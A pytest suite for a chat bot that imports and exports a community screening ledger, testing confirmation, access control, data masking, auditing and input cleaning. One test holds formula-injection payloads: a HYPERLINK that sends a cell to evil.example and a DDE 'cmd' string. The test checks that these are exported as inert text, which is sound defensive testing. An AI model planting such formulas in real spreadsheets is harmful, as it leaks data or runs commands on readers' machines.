"""Files in chat: a list sent to the bot is checked, confirmed once and imported; /export ledger sends the .xlsx."""

from __future__ import annotations

import io
import logging
import shutil
import zipfile
from pathlib import Path

import pytest
from lianfang.bot.i18n import render
from lianfang.bot.platforms.console.adapter import ConsoleAdapter
from lianfang.bot.ports import FailureKind, SendError
from lianfang.bot.types import PLATFORM_CONSOLE, ChatRef, Document, OutgoingMessage, Text
from lianfang.models.audit import ACTION_EXPORT, ACTION_IMPORT, CHANNEL_PRIVATE, AuditEntry
from lianfang.models.files import OutgoingFile, PendingImport
from lianfang.models.screening import ScreeningTarget, ScreeningTargetChange
from openpyxl import load_workbook
from sqlmodel import Session, col, select

from tests.fakes import Chat, Harness, keys_of, texts_of
from tests.screening_files import bad_check, id_number, write_csv, write_xlsx

HEADER = ["序号", "姓名", "身份证号", "联系电话", "现住址", "事由"]
LI = id_number(birth="19900101", seq="123")
WANG = id_number(birth="19851231", seq="246")
ZHAO = id_number(birth="19620615", seq="357")
GOOD_ROWS = [
    [1, "李四", LI, "13812345678", "东风小区3栋201", "武汉返长"],
    [2, "王五", WANG, "13912345678", "朝阳新村5栋101", "外地返长"],
]


def xlsx(tmp_path: Path, rows: list[list[object]], name: str = "名单.xlsx") -> bytes:
    """Return the bytes of a district list."""
    return write_xlsx(tmp_path / name, HEADER, rows, title="五里牌街道返长人员排查名单").read_bytes()


def truncated_sheet(data: bytes) -> bytes:
    """Return a workbook whose archive opens but whose first sheet's XML is cut in half."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as out:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                content = content[: len(content) // 2]
            out.writestr(item, content)
    return buffer.getvalue()


def ledger(harness: Harness) -> list[ScreeningTarget]:
    """Return the ledger in id order."""
    with Session(harness.app.engine) as session:
        return list(session.exec(select(ScreeningTarget).order_by(col(ScreeningTarget.id))))


def audit(harness: Harness, action: str) -> list[AuditEntry]:
    """Return the audit entries of one action."""
    with Session(harness.app.engine) as session:
        return list(session.exec(select(AuditEntry).where(AuditEntry.action == action)))


def pending(harness: Harness) -> list[PendingImport]:
    """Return the lists waiting for (or done with) confirmation."""
    with Session(harness.app.engine) as session:
        return list(session.exec(select(PendingImport)))


async def importer(harness: Harness) -> Chat:
    """Return a 排查组 lead's private chat, with staff in two communities to assign to."""
    await harness.member("王芳", "screening", "staff", "dongfeng")
    await harness.member("张伟", "screening", "staff", "chaoyang")
    return await harness.member("刘组长", "screening", "group_lead")


async def imported(harness: Harness, tmp_path: Path) -> Chat:
    """Return the importer's chat once the good rows are on the ledger."""
    lead = await importer(harness)
    await lead.send_file("名单.xlsx", xlsx(tmp_path, GOOD_ROWS))
    await lead.tap("导入")
    return lead


async def test_a_good_list_is_checked_then_imported_on_confirmation(harness: Harness, tmp_path: Path) -> None:
    lead = await importer(harness)
    answer = await lead.send_file("名单.xlsx", xlsx(tmp_path, GOOD_ROWS))
    assert keys_of(answer) == ["files.import_summary", "files.confirm_title", "files.confirm_all"]
    assert answer[0].lines[0].params | {"rows": 2, "good": 2, "bad": 0} == answer[0].lines[0].params
    assert ledger(harness) == []  # nothing is written before the importer confirms
    assert "全部 2 行合格" in texts_of(answer)
    done = await lead.tap("导入")
    assert keys_of(done) == ["screening.import_done"]
    assert done[0].lines[0].params["added"] == 2
    assert [(t.name, t.community, t.batch) for t in ledger(harness)] == [
        ("李四", "dongfeng", "名单"),
        ("王五", "chaoyang", "名单"),
    ]
    entry = audit(harness, ACTION_IMPORT)
    assert len(entry) == 1 and entry[0].channel == CHANNEL_PRIVATE and entry[0].actor == "刘组长"
    assert [p.data for p in pending(harness)] == [b""]  # the upload's bytes are dropped once decided


async def test_bad_rows_are_listed_and_only_the_good_ones_imported_once(harness: Harness, tmp_path: Path) -> None:
    lead = await importer(harness)
    rows = [*GOOD_ROWS, [3, "赵六", bad_check(ZHAO), "13712345678", "东风小区1栋", ""], [4, "", "", "", "", "x"]]
    answer = await lead.send_file("名单.xlsx", xlsx(tmp_path, rows))
    text = texts_of(answer)
    assert "第 6 行" in text and "第 7 行" in text  # spreadsheet row numbers (title, blank row, header first)
    assert answer[0].lines[0].params["bad"] == 2  # rows, not problems: row 7 has three
    assert [b.value.split()[:2] for b in answer[-1].buttons] == [["/import", "good"], ["/import", "cancel"]]
    assert "只导入合格的 2 行" in [button_text for button_text in _labels(answer)]
    first = await lead.tap("只导入合格的 2 行")
    assert keys_of(first) == ["screening.import_done"]
    again = await lead.say(answer[-1].buttons[0].value, button=True)  # a double tap
    assert keys_of(again) == ["files.already_imported"]
    assert len(ledger(harness)) == 2 and len(audit(harness, ACTION_IMPORT)) == 1


async def test_the_same_list_sent_twice_merges_instead_of_doubling(harness: Harness, tmp_path: Path) -> None:
    lead = await importer(harness)
    data = xlsx(tmp_path, GOOD_ROWS)
    await lead.send_file("名单.xlsx", data)
    await lead.tap("导入")
    answer = await lead.send_file("名单.xlsx", data)
    assert answer[0].lines[0].params["merged"] == 2
    await lead.tap("导入")
    assert len(ledger(harness)) == 2


async def test_cancel_imports_nothing_and_a_later_tap_does_nothing(harness: Harness, tmp_path: Path) -> None:
    lead = await importer(harness)
    answer = await lead.send_file("名单.xlsx", xlsx(tmp_path, GOOD_ROWS))
    assert keys_of(await lead.tap("取消")) == ["files.import_cancelled"]
    assert keys_of(await lead.say(answer[-1].buttons[0].value, button=True)) == ["files.already_cancelled"]
    assert ledger(harness) == [] and audit(harness, ACTION_IMPORT) == []


async def test_an_expired_confirmation_imports_nothing(harness: Harness, tmp_path: Path) -> None:
    lead = await importer(harness)
    await lead.send_file("名单.xlsx", xlsx(tmp_path, GOOD_ROWS))
    harness.advance(minutes=61)
    assert keys_of(await lead.tap("导入")) == ["files.import_expired"]
    assert ledger(harness) == []


async def test_the_confirmation_survives_a_restart(database_url: str, tmp_path: Path) -> None:
    first = Harness.create(database_url)
    await first.app.start()
    lead = await importer(first)
    answer = await lead.send_file("名单.xlsx", xlsx(tmp_path, GOOD_ROWS))
    await first.app.stop()
    first.app.engine.dispose()
    second = Harness.create(database_url)
    await second.app.start()
    try:
        chat = Chat(second, user_id=lead.user_id, chat_id=lead.chat_id)
        done = await chat.say(answer[-1].buttons[0].value, button=True)
        assert keys_of(done) == ["screening.import_done"] and len(ledger(second)) == 2
    finally:
        await second.app.stop()
        second.app.engine.dispose()


async def test_forged_answers_and_another_members_token_are_refused(harness: Harness, tmp_path: Path) -> None:
    lead = await importer(harness)
    other = await harness.member("龙雅俐", "coordination", "admin")
    rows = [*GOOD_ROWS, [3, "", "", "", "", ""], [4, "赵六", "123", "", "东风小区1栋", ""]]
    answer = await lead.send_file("名单.xlsx", xlsx(tmp_path, rows))
    token = answer[-1].buttons[0].value.split()[-1]
    assert keys_of(await other.say(f"/import good {token}")) == ["files.import_unknown"]
    assert keys_of(await lead.say(f"/import all {token}")) == ["files.import_unknown"]  # the list has bad rows
    assert keys_of(await lead.say("/import good nosuchtoken")) == ["files.import_unknown"]
    assert keys_of(await lead.say("/import")) == ["files.import_hint"]
    assert ledger(harness) == []
    assert keys_of(await lead.tap("只导入合格的 2 行")) == ["screening.import_done"]


async def test_wrong_files_get_a_clear_answer_and_nothing_is_kept(harness: Harness, tmp_path: Path) -> None:
    lead = await importer(harness)
    assert keys_of(await lead.send_file("通知.doc", b"\xd0\xcf\x11\xe0 word")) == ["screening.error_file_type"]
    assert lead.fetched == 0  # not even downloaded
    assert keys_of(await lead.send_file("photo.jpg", b"\xff\xd8\xff\xe0")) == ["screening.error_file_type"]
    renamed = await lead.send_file("名单.xlsx", b"\xff\xd8\xff\xe0 a jpeg renamed")
    assert keys_of(renamed) == ["files.file_refused"]
    assert renamed[0].lines[0].params["reason"].key == "screening.error_file_unreadable"
    damaged = await lead.send_file("名单.xlsx", truncated_sheet(xlsx(tmp_path, GOOD_ROWS)))
    assert damaged[0].lines[0].params["reason"].key == "screening.error_file_unreadable"
    empty = await lead.send_file("名单.csv", b"")
    assert empty[0].lines[0].params["reason"].key == "files.error_empty"
    headless = write_csv(tmp_path / "x.csv", ["a", "b"], [["1", "2"]]).read_bytes()
    assert (await lead.send_file("x.csv", headless))[0].lines[0].params["reason"].key == "screening.error_no_header"
    nothing = await lead.send_file(
        "名单.csv", write_csv(tmp_path / "y.csv", HEADER, [[1, "", "", "", "", ""]]).read_bytes()
    )
    assert keys_of(nothing)[-1] == "files.nothing_good"
    assert pending(harness) == [] and ledger(harness) == []


async def test_a_file_over_the_limit_is_refused_without_downloading(harness: Harness, tmp_path: Path) -> None:
    lead = await importer(harness)
    answer = await lead.send_file("名单.xlsx", b"x", size=11 * 1024 * 1024)
    assert keys_of(answer) == ["files.too_large"] and answer[0].lines[0].params["limit"] == "10"
    assert lead.fetched == 0
    unannounced = await lead.send_file("名单.csv", b"x" * (10 * 1024 * 1024 + 1), size=None)
    assert keys_of(unannounced) == ["files.too_large"]


async def test_strangers_and_other_members_are_refused_and_nothing_is_downloaded(
    harness: Harness, tmp_path: Path
) -> None:
    stranger = harness.private("路人")
    assert keys_of(await stranger.send_file("名单.xlsx", xlsx(tmp_path, GOOD_ROWS))) == ["common.stranger"]
    assert stranger.fetched == 0
    reporter = await harness.member("李明", "medical", "reporter")
    assert keys_of(await reporter.send_file("名单.xlsx", xlsx(tmp_path, GOOD_ROWS))) == ["files.import_not_allowed"]
    assert reporter.fetched == 0
    lead = await importer(harness)
    group = harness.group("g-screening", lead)
    assert await group.send_file("名单.xlsx", xlsx(tmp_path, GOOD_ROWS)) == []  # files in groups are left alone
    assert pending(harness) == [] and ledger(harness) == []


async def test_export_ledger_sends_an_xlsx_per_community_and_is_audited(harness: Harness, tmp_path: Path) -> None:
    lead = await importer(harness)
    await lead.send_file("名单.xlsx", xlsx(tmp_path, GOOD_ROWS))
    await lead.tap("导入")
    answer = await lead.say("/export ledger")
    assert keys_of(answer) == ["files.export_ready"]
    document = answer[0].document
    assert document is not None and document.file_name == "排查台账-20200128.xlsx" and document.data
    book = load_workbook(io.BytesIO(document.data))
    assert {"东风社区", "朝阳社区"} <= set(book.sheetnames)
    assert book["东风社区"]["B2"].value == "李四" and book["东风社区"]["E2"].value == LI
    one = await lead.say("导出台账 朝阳社区")
    assert load_workbook(io.BytesIO(one[0].document.data)).sheetnames == ["朝阳社区"]
    entries = audit(harness, ACTION_EXPORT)
    assert len(entries) == 2 and {e.channel for e in entries} == {CHANNEL_PRIVATE}
    with Session(harness.app.engine) as session:
        assert session.exec(select(OutgoingFile)).all() == []  # the bytes are dropped once delivered
    assert keys_of(await lead.say("/export ledger 火星")) == ["files.export_unknown_community"]


async def test_staff_are_refused_the_export_and_groups_get_a_private_link(harness: Harness) -> None:
    staff = await harness.member("王芳", "screening", "staff", "dongfeng")
    assert keys_of(await staff.say("/export ledger")) == ["files.export_not_allowed"]
    group = harness.group("g-screening", staff)
    answer = await group.say("/export ledger")
    assert keys_of(answer) == ["common.private_only"] and answer[0].document is None
    assert answer[0].buttons[0].private
    assert audit(harness, ACTION_EXPORT) == []


def _labels(messages: list[OutgoingMessage]) -> list[str]:
    return [render(button.label, m.lang) for m in messages for button in m.buttons]


async def test_the_console_names_a_document_and_saves_it() -> None:
    console = ConsoleAdapter(io.StringIO(), user_id="me")
    document = Document("台账.xlsx", 2048, "application/octet-stream", file_id=1, data=b"x" * 2048)
    await console.send(OutgoingMessage(ChatRef(PLATFORM_CONSOLE, "me"), (Text.raw("好"),), "zh_CN", document=document))
    assert console.files_dir is not None
    saved = console.files_dir / "台账.xlsx"
    assert saved.read_bytes() == b"x" * 2048
    assert f"📎 台账.xlsx（2.0 KB），已保存到 {saved}" in console.out.getvalue()
    shutil.rmtree(console.files_dir)


async def test_an_undeliverable_export_keeps_no_file_and_never_reaches_a_group(harness: Harness) -> None:
    admin, _, coordination = await harness.bound_org_chats()
    harness.adapter.refuse[admin.chat_id] = SendError(
        "forbidden: bot was blocked by the user", permanent=True, kind=FailureKind.REFUSED
    )
    await admin.say("/export ledger")
    assert all(m.document is None for m in harness.adapter.delivered)  # the group fallback carries no file
    with Session(harness.app.engine) as session:
        assert session.exec(select(OutgoingFile)).all() == []
    assert len(audit(harness, ACTION_EXPORT)) == 1


# -- access: who may import and export, and what an import may tell (issue 11, items 5 and 6) ---------------


async def test_field_staff_cannot_probe_or_overwrite_the_ledger_with_a_one_row_list(
    harness: Harness, tmp_path: Path
) -> None:
    await imported(harness, tmp_path)
    (wang,) = [t for t in ledger(harness) if t.name == "王五"]  # 朝阳社区's, 张伟's target
    dongfeng = await harness.member("陈静", "screening", "staff", "dongfeng")
    probe = [[1, "王五", WANG, "13700000000", "东风小区9栋", "x"]]
    answer = await dongfeng.send_file("名单.xlsx", xlsx(tmp_path, probe))
    assert keys_of(answer) == ["files.import_not_allowed"] and dongfeng.fetched == 0
    assert "台账中已有此人" not in texts_of(answer) and "第 2 号" not in texts_of(answer)
    (after,) = [t for t in ledger(harness) if t.name == "王五"]
    assert (after.phone, after.address) == (wang.phone, wang.address)
    coordination = await harness.member("周敏", "coordination", "staff")
    assert keys_of(await coordination.send_file("名单.xlsx", xlsx(tmp_path, GOOD_ROWS)))[0] == "files.import_summary"
    other_lead = await harness.member("宣传组长", "publicity", "group_lead")
    assert keys_of(await other_lead.send_file("名单.xlsx", xlsx(tmp_path, GOOD_ROWS))) == ["files.import_not_allowed"]


async def test_a_merge_that_changes_phone_or_address_keeps_the_old_values_and_tells_the_staff_member(
    harness: Harness, tmp_path: Path
) -> None:
    staff = await harness.member("王芳", "screening", "staff", "dongfeng")
    await harness.member("张伟", "screening", "staff", "chaoyang")
    lead = await harness.member("刘组长", "screening", "group_lead")
    await lead.send_file("名单.xlsx", xlsx(tmp_path, GOOD_ROWS))
    await lead.tap("导入")
    staff.catch_up()
    (li,) = [t for t in ledger(harness) if t.name == "李四"]
    moved = [[1, "李四", LI, "13600001111", "东风新村8栋102", "武汉返长"], GOOD_ROWS[1]]
    preview = await lead.send_file("名单2.xlsx", xlsx(tmp_path, moved, name="名单2.xlsx"))
    assert f"台账中已有此人（排查对象第 {li.id} 号），已合并" in texts_of(preview)  # within the lead's reach
    await lead.tap("导入")
    (after,) = [t for t in ledger(harness) if t.name == "李四"]
    assert (after.phone, after.address) == ("13600001111", "东风新村8栋102")
    with Session(harness.app.engine) as session:
        kept = session.exec(select(ScreeningTargetChange).order_by(col(ScreeningTargetChange.id))).all()
    assert [(c.target_id, c.field, c.old_value, c.batch) for c in kept] == [
        (li.id, "phone", "13812345678", "名单2"),
        (li.id, "address", "东风小区3栋201", "名单2"),
    ]
    told = staff.unread()
    assert keys_of(told) == ["screening.replaced_phone_address"] and told[0].lines[0].params["number"] == li.id
    assert "13600001111" not in texts_of(told) and "东风新村8栋102" not in texts_of(told)  # no data, a pointer


async def test_export_follows_the_record_scope_and_full_data_roles_only_unmask(
    harness: Harness, tmp_path: Path
) -> None:
    lead = await imported(harness, tmp_path)
    publicity_lead = await harness.member("宣传组长", "publicity", "group_lead")  # group_lead is a full_data role
    assert keys_of(await publicity_lead.say("/export ledger")) == ["files.export_not_allowed"]
    coordination = await harness.member("周敏", "coordination", "staff")  # in scope, not a full_data role
    answer = await coordination.say("/export ledger")
    assert keys_of(answer) == ["files.export_ready"]
    sheet = load_workbook(io.BytesIO(answer[0].document.data))["东风社区"]
    assert sheet["B2"].value == "李*" and sheet["E2"].value != LI and sheet["E2"].value.endswith(LI[-4:])
    assert sheet["F2"].value == "138****5678"
    full = load_workbook(io.BytesIO((await lead.say("/export ledger"))[0].document.data))["东风社区"]
    assert (full["B2"].value, full["E2"].value, full["F2"].value) == ("李四", LI, "13812345678")
    entries = audit(harness, ACTION_EXPORT)
    assert [e.actor for e in entries] == ["周敏", "刘组长"] and "masked" in entries[0].detail


async def test_exported_text_cells_are_strings_never_formulas(harness: Harness, tmp_path: Path) -> None:
    lead = await importer(harness)
    hostile = '=HYPERLINK("http://evil.example/?"&E2,"点击查看")'
    rows = [
        [1, hostile, LI, "13812345678", "东风小区3栋201", "+1+cmd|' /C calc'!A0"],
        [2, "@SUM(1+1)", WANG, "13912345678", "东风小区5栋101", "-2+3"],
        [3, "赵六", ZHAO, "13712345678", "东风小区1栋", "#N/A"],
    ]
    await lead.send_file("名单.csv", write_csv(tmp_path / "名单.csv", HEADER, rows).read_bytes())  # text, as typed
    await lead.tap("导入")
    answer = await lead.say("/export ledger 东风社区")
    sheet = load_workbook(io.BytesIO(answer[0].document.data))["东风社区"]
    assert sheet["B2"].value == "'" + hostile and sheet["B2"].data_type == "s"
    assert sheet["I2"].value == "'+1+cmd|' /C calc'!A0" and sheet["I2"].data_type == "s"
    assert (sheet["B3"].value, sheet["I3"].value) == ("'@SUM(1+1)", "'-2+3")
    assert sheet["I4"].value == "#N/A" and sheet["I4"].data_type == "s"  # text, not Excel's error value
    texts = [cell for row in sheet.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
    assert texts and all(cell.data_type == "s" for cell in texts)


async def test_imported_cells_lose_control_characters_and_the_row_is_named(harness: Harness, tmp_path: Path) -> None:
    lead = await importer(harness)
    rows = [[1, "李\u200b四", LI, "13812345678", "东风小区\u202e3栋201", "武汉返长"], GOOD_ROWS[1]]
    answer = await lead.send_file("名单.xlsx", xlsx(tmp_path, rows))
    text = texts_of(answer)
    assert "已清理不可见字符的行（2）" in text
    assert "第 4 行：“姓名”含不可见的控制字符，已删除" in text and "第 4 行：“现住址”含不可见的控制字符，已删除" in text
    await lead.tap("导入")
    assert [(t.name, t.address) for t in ledger(harness)][0] == ("李四", "东风小区3栋201")


async def test_a_nul_in_a_list_never_crashes_the_import_nor_logs_the_batch(
    harness: Harness, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    lead = await importer(harness)
    data = write_csv(
        tmp_path / "名单.csv",
        HEADER,
        [[1, "王\x00五", WANG, "139\x0012345678", "朝阳新村\x005栋101", "外地\x00返长"], GOOD_ROWS[0]],
    ).read_bytes()
    caplog.set_level(logging.DEBUG)
    answer = await lead.send_file("名\x00单.csv", data)
    assert answer[0].lines[0].params["file"] == "名单.csv"
    done = await lead.tap("导入")
    assert keys_of(done) == ["screening.import_done"] and done[0].lines[0].params["added"] == 2
    assert sorted((t.name, t.phone, t.address) for t in ledger(harness)) == [
        ("李四", "13812345678", "东风小区3栋201"),
        ("王五", "13912345678", "朝阳新村5栋101"),
    ]
    assert [r for r in caplog.records if r.levelno >= logging.ERROR] == []
    logged = "\n".join(r.getMessage() for r in caplog.records)
    assert WANG not in logged and "13912345678" not in logged and "王" not in logged
